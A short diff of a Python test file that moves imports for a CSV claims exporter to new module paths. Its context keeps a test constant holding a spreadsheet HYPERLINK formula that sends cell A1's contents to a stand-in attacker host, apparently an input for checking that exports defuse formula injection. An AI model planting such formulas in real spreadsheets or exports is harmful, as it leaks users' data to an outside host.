@@ -8,8 +8,8 @@ import json
 
 import pytest
 
-from generator.export import CLAIM_COLUMNS, FORMULA_START, claims_csv, data_files
-from generator.load import load_archive
+from generator.render.export import CLAIM_COLUMNS, FORMULA_START, claims_csv, data_files
+from generator.read.load import load_archive
 from helpers import FIXTURE_ARCHIVE, article_text
 
 FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"Source")'
